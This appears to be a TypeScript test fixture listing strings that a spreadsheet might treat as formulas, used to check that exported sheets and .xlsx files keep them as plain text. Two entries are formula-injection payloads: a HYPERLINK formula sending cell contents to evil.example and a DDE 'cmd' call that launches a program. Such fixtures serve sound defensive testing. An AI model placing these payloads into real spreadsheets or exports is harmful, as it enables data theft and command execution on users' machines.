// Text a spreadsheet could mistake for a formula, or mangle: what server data may hold (a
// clerk typed it, another client stored it) and what every path that writes server data into
// a sheet or an .xlsx must keep as exactly this text (issue #7, "Spreadsheet safety").
export const FORMULA_LIKE: readonly string[] = [
  '=HYPERLINK("http://evil.example/?q="&A1,"点我查看")',
  '=1+2',
  "=cmd|' /C calc'!A0",
  '+8613912345678',
  '+1+1',
  '-1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t制表符开头',
  '\r回车开头',
  '\n换行开头',
  '\r\n=1+1',
  '甲\r\n乙',
  '_x000D_ 字面量',
  "'单引号开头",
];
